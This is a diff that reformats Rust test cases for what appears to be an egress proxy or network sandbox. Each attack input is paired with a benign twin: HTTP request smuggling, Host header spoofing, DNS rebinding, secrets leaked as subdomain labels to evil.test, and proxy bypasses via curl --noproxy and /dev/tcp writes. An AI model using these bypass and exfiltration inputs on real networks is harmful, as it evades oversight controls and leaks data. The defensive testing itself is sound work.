@@ -66,7 +66,9 @@ fn hosts() -> Vec<Case> {
         ("D8.08", "a star as a host", "*.sub.good.test", "a.sub.good.test"),
     ] {
         let connect = |host: &str| format!("CONNECT {host}:{{port}} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\nhello");
-        let plain = |host: &str| format!("GET http://{host}:{{port}}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n");
+        let plain = |host: &str| {
+            format!("GET http://{host}:{{port}}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n")
+        };
         all.push(way().said(&format!("{id}a"), &format!("{says}, CONNECT"), &connect(attack), &connect(twin)));
         all.push(way().said(&format!("{id}b"), &format!("{says}, plain"), &plain(attack), &plain(twin)));
     }
@@ -151,10 +153,26 @@ fn resolved() -> Vec<Case> {
     .into_iter()
     .map(|(id, says, host)| way().urls(id, says, &get(&format!("{host}.names.test")), &get("friend.names.test")))
     .collect();
-    let twice = |host: &str| format!("for i in 1 2 3; do curl -sS -m 10 --noproxy '' http://{host}.names.test:{{port}}/; done");
-    all.push(way().elsewhere().case("D9.30", "a name that points elsewhere the second time", &twice("rebind-{tag}"), &twice("friend")));
-    all.push(way().by_name().urls("E2.20", "a secret as a label of a name, to the resolver", "http://{tag}.evil.test:{port}/", "http://{tag}.names.test:{port}/"));
-    all.push(way().by_name().said("E2.21", "the same through CONNECT", "CONNECT {tag}.evil.test:{port} HTTP/1.1\\r\\n\\r\\n", "CONNECT {tag}.names.test:{port} HTTP/1.1\\r\\n\\r\\n"));
+    let twice =
+        |host: &str| format!("for i in 1 2 3; do curl -sS -m 10 --noproxy '' http://{host}.names.test:{{port}}/; done");
+    all.push(way().elsewhere().case(
+        "D9.30",
+        "a name that points elsewhere the second time",
+        &twice("rebind-{tag}"),
+        &twice("friend"),
+    ));
+    all.push(way().by_name().urls(
+        "E2.20",
+        "a secret as a label of a name, to the resolver",
+        "http://{tag}.evil.test:{port}/",
+        "http://{tag}.names.test:{port}/",
+    ));
+    all.push(way().by_name().said(
+        "E2.21",
+        "the same through CONNECT",
+        "CONNECT {tag}.evil.test:{port} HTTP/1.1\\r\\n\\r\\n",
+        "CONNECT {tag}.names.test:{port} HTTP/1.1\\r\\n\\r\\n",
+    ));
     all
 }
 
@@ -173,27 +191,76 @@ fn redirects() -> Vec<Case> {
         all.push(Case::new(id, says, way().answered(&answer).elsewhere().act(curl, true), way().act(curl, false)));
     }
     let first = "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n";
-    all.push(way().elsewhere().said("D12.01", "a second request on the same connection", &format!("{first}GET http://evil.test:{{port}}/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n"), &format!("{first}GET http://good.test:{{port}}/2 HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n")));
+    all.push(way().elsewhere().said(
+        "D12.01",
+        "a second request on the same connection",
+        &format!(
+            "{first}GET http://evil.test:{{port}}/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n"
+        ),
+        &format!(
+            "{first}GET http://good.test:{{port}}/2 HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n"
+        ),
+    ));
     for (id, says, attack) in [
-        ("D12.02", "a Host header of another", "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n"),
-        ("D12.03", "two Host headers", "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n"),
-        ("D12.04", "a length and chunks: what follows is no request", "POST http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 60\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"),
-        ("D12.05", "two lengths", "POST http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0\\r\\nContent-Length: 40\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"),
-        ("D12.06", "a header folded over a line", "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nX: a\\r\\n Host: evil.test\\r\\nConnection: close\\r\\n\\r\\n"),
-        ("D12.07", "a proxy's own credentials handed on", "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nProxy-Authorization: Basic evil\\r\\nConnection: close\\r\\n\\r\\n"),
-        ("D12.08", "a header named as one of the connection's", "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: x-evil\\r\\nX-Evil: evil\\r\\n\\r\\n"),
-        ("D12.09", "a line end within the address", "GET http://good.test:{port}/\\nevil HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n"),
+        (
+            "D12.02",
+            "a Host header of another",
+            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
+        ),
+        (
+            "D12.03",
+            "two Host headers",
+            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
+        ),
+        (
+            "D12.04",
+            "a length and chunks: what follows is no request",
+            "POST http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 60\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
+        ),
+        (
+            "D12.05",
+            "two lengths",
+            "POST http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0\\r\\nContent-Length: 40\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
+        ),
+        (
+            "D12.06",
+            "a header folded over a line",
+            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nX: a\\r\\n Host: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
+        ),
+        (
+            "D12.07",
+            "a proxy's own credentials handed on",
+            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nProxy-Authorization: Basic evil\\r\\nConnection: close\\r\\n\\r\\n",
+        ),
+        (
+            "D12.08",
+            "a header named as one of the connection's",
+            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: x-evil\\r\\nX-Evil: evil\\r\\n\\r\\n",
+        ),
+        (
+            "D12.09",
+            "a line end within the address",
+            "GET http://good.test:{port}/\\nevil HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n",
+        ),
     ] {
         let twin = "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n";
         all.push(way().word("evil").said(id, says, attack, twin));
     }
     for (id, says, attack) in [
         ("D2.20", "no host at all", "GET / HTTP/1.1\\r\\nHost: evil.test:{port}\\r\\nConnection: close\\r\\n\\r\\n"),
-        ("D2.21", "another scheme", "GET https://evil.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n"),
+        (
+            "D2.21",
+            "another scheme",
+            "GET https://evil.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n",
+        ),
         ("D11.10", "a port out of range", "CONNECT good.test:131072{port} HTTP/1.1\\r\\n\\r\\nhello"),
         ("D11.11", "two ports", "CONNECT good.test:443:{port} HTTP/1.1\\r\\n\\r\\nhello"),
         ("D11.12", "no port", "CONNECT good.test HTTP/1.1\\r\\n\\r\\nhello"),
-        ("D12.10", "an upgrade to another protocol", "GET http://evil.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n"),
+        (
+            "D12.10",
+            "an upgrade to another protocol",
+            "GET http://evil.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n",
+        ),
     ] {
         all.push(way().said(id, says, attack, "CONNECT good.test:{port} HTTP/1.1\\r\\n\\r\\nhello"));
     }
@@ -227,14 +294,27 @@ fn around() -> Vec<Case> {
     let dns = "import socket, struct\ns = socket.socket(2, 2); q = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in '{tag}.evil.test'.split('.')) + b'\\0\\0\\1\\0\\1'\ns.sendto(q, ('127.0.0.99', 53))";
     let curl = "import urllib.request\nurllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:3128'})).open('http://{tag}.names.test:{port}/').read()";
     all.push(way().python().by_name().case("D13.20", "a question to the resolver itself", dns, curl));
-    all.push(way().python().by_name().case("D13.21", "a question by the C library", "import socket\nsocket.getaddrinfo('{tag}.evil.test', 80)", curl));
+    all.push(way().python().by_name().case(
+        "D13.21",
+        "a question by the C library",
+        "import socket\nsocket.getaddrinfo('{tag}.evil.test', 80)",
+        curl,
+    ));
     for (id, says, script) in [
         ("D14.01", "the proxy left out", "curl -sS -m 3 --noproxy '*' http://evil.test:{port}/"),
-        ("D14.02", "the proxy's variables gone", "env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY curl -sS -m 3 http://93.184.216.34:{port}/"),
+        (
+            "D14.02",
+            "the proxy's variables gone",
+            "env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY curl -sS -m 3 http://93.184.216.34:{port}/",
+        ),
         ("D14.03", "bash's own sockets", "echo x > /dev/tcp/93.184.216.34/{port}"),
         ("D14.04", "bash's datagrams", "echo x > /dev/udp/93.184.216.34/{port}"),
         ("D14.05", "a proxy of one's own outside", "curl -sS -m 3 -x http://93.184.216.34:{port} http://good.test/"),
-        ("D14.06", "the name given its address by the client", "curl -sS -m 3 --noproxy '*' --resolve good.test:{port}:93.184.216.34 http://good.test:{port}/"),
+        (
+            "D14.06",
+            "the name given its address by the client",
+            "curl -sS -m 3 --noproxy '*' --resolve good.test:{port}:93.184.216.34 http://good.test:{port}/",
+        ),
     ] {
         all.push(way().case(id, says, script, "curl -sS -m 5 --noproxy '' http://good.test:{port}/"));
     }
